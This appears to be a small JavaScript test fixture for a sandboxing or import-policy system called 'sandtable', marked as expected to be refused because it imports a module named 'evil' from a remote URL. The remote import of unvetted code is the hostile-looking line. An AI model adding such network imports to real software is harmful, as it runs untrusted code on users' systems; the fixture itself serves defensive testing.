// Imports from the network.
// expects: refused may import 'sandtable' and nothing else
import evil from 'https://example.org/evil.js';
import { policy } from 'sandtable';
export default policy(evil);
